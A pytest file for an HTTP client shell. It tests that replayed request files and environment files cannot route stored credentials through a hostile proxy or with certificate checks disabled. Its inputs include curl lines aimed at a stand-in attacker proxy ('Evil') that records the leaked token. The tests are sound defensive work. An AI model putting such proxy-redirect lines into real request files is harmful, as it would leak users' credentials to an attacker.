"""What the shell's session holds never goes by a way that a file says: a replayed script, an environment."""

from __future__ import annotations

import contextlib
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.support.server import Server

from callbox.render.ansi_and_sanitiser import plain
from callbox.shell.outputs import TextOutput

TOKEN = "T0KENT0KENT0KEN"


class Evil(Server):
    """Listens as a proxy, answers whatever comes with 200, and keeps all bytes."""

    def __init__(self) -> None:
        self.seen = b""
        super().__init__(self._keep)

    def _keep(self, connection: socket.socket) -> None:
        self.seen += connection.recv(65536)
        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")


@pytest.fixture
def evil() -> Iterator[Evil]:
    made = Evil()
    yield made
    made.close()


HELD = {
    "auth": f"set auth bearer {TOKEN}",
    "auth for everyone": f"set auth bearer {TOKEN} --everywhere",
    "header": f"set header X-Api-Key {TOKEN}",
    "plain header": f"set header X-Plain {TOKEN}",
    "parameter": f"set query q {TOKEN}",
    "cookie": f"set cookie sid {TOKEN}",
    "certificate": f"set option cert {TOKEN}.pem",
}
SAID = {
    "proxy": "curl -x {evil} {api}/echo",
    "proxy, unchecked": "curl -k -x {evil} {api}/echo",
    "unchecked": "# @insecure\nGET {api}/echo",
    "below the base": "# @insecure\nGET /echo",
}


@pytest.mark.parametrize("said", SAID.values(), ids=list(SAID))
@pytest.mark.parametrize("held", HELD.values(), ids=list(HELD))
def test_a_replayed_file_cannot_lead_the_sessions_credentials_away(shell, api, evil, held, said) -> None:
    Path("evil.http").write_text(said.format(evil=evil.url, api=api.url))
    shell.run(held, "replay evil.http")

    assert TOKEN.encode() not in evil.seen
    assert shell.context.last is None


def test_it_says_what_was_not_sent_and_what_to_do(shell, api, evil) -> None:
    Path("evil.http").write_text(f"curl -k -x {evil.url} {api.url}/echo")
    shell.run(f"set auth bearer {TOKEN}")

    outputs = shell.run("replay evil.http")
    text = " ".join("".join(plain(one.fragments) for one in outputs if isinstance(one, TextOutput)).split())

    assert f"Not sent: the file sets verify no, proxy {evil.url}, and your auth must not use that route" in text
    assert f"choose it yourself: set option verify no; set option proxy {evil.url}" in text
    assert TOKEN not in text


def test_what_it_tells_to_do_lets_it_go(shell, api, evil) -> None:
    Path("dev.http").write_text(f"curl -k -x {evil.url} {api.url}/echo")
    shell.run(f"set auth bearer {TOKEN}", "set option verify no", f"set option proxy {evil.url}", "replay dev.http")

    assert TOKEN.encode() in evil.seen


def test_a_flag_of_the_line_lets_it_go_too(shell, api, evil) -> None:
    Path("dev.http").write_text(f"curl -x {evil.url} {api.url}/echo")
    shell.run(f"set auth bearer {TOKEN}", f"replay dev.http --proxy {evil.url}")

    assert TOKEN.encode() in evil.seen


def test_again_treats_options_of_a_file_as_options_of_a_file(shell, api, evil) -> None:
    Path("evil.http").write_text(f"curl -x {evil.url} {api.url}/echo")
    shell.say("replay evil.http", f"set auth bearer {TOKEN}")

    assert "Not sent: the file sets proxy" in shell.fail("again")
    assert "Not sent: the file sets proxy" in shell.fail("preview again")
    assert TOKEN.encode() not in evil.seen
    shell.run(f"again --proxy {evil.url}")
    assert TOKEN.encode() in evil.seen


def test_a_saved_request_does_not_take_the_way_of_a_file_along(
    shell, api, evil, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    Path("evil.http").write_text(f"curl -x {evil.url} {api.url}/echo")
    shell.say("replay evil.http", f"set auth bearer {TOKEN}")

    assert "not saved: --proxy" in shell.say("save request it")
    shell.run("send it")
    assert shell.context.last.outgoing.route.proxy == ""
    assert TOKEN.encode() not in evil.seen


@pytest.fixture
def lab(shell) -> None:
    Path("http-client.env.json").write_text('{"lab": {"SSLConfiguration": {"verifyHostCertificate": false}}}')
    shell.say("set option env lab")


@pytest.mark.parametrize("held", HELD.values(), ids=list(HELD))
def test_an_environments_file_cannot_lead_the_sessions_credentials_away(shell, lab, held) -> None:
    shell.run(held)

    assert "Not sent: the file sets verify no" in shell.fail("get /echo")
    assert shell.context.last is None


@pytest.mark.parametrize("typed", [f"--auth ann:{TOKEN}", f"Authorization:{TOKEN}", f"Cookie:a={TOKEN}"])
def test_nor_what_was_typed_with_the_request(shell, lab, typed) -> None:
    assert "Not sent: the file sets verify no" in shell.fail(f"get /echo {typed}")


def test_requests_without_credentials_use_the_options_of_an_environment(shell, lab) -> None:
    assert shell.record("get /echo X-Plain:1 q==2").response.status == 200


@pytest.mark.parametrize("line", ["set option verify no", "set option verify yes"])
def test_what_the_user_says_over_an_environment_is_his_own(shell, lab, line) -> None:
    shell.run(f"set auth bearer {TOKEN}", line)

    assert shell.record("get /echo").response.status == 200


def test_an_environment_that_ends_leads_nothing_any_more(shell, lab) -> None:
    shell.run(f"set auth bearer {TOKEN}", "unset option env")

    assert shell.record("get /echo").response.status == 200


def test_a_text_that_the_user_edited_is_no_file_of_others(shell, api, monkeypatch) -> None:
    shell.run(f"set auth bearer {TOKEN}", "get /echo --verify no")
    edited = lambda text, suffix, must_be_saved: contextlib.nullcontext(text.replace("/echo", "/ping"))  # noqa: E731
    shell.context.ports = shell.context.ports._replace(edit=edited)

    shell.say("edit last")

    assert shell.context.last.outgoing.url.path == "/ping"
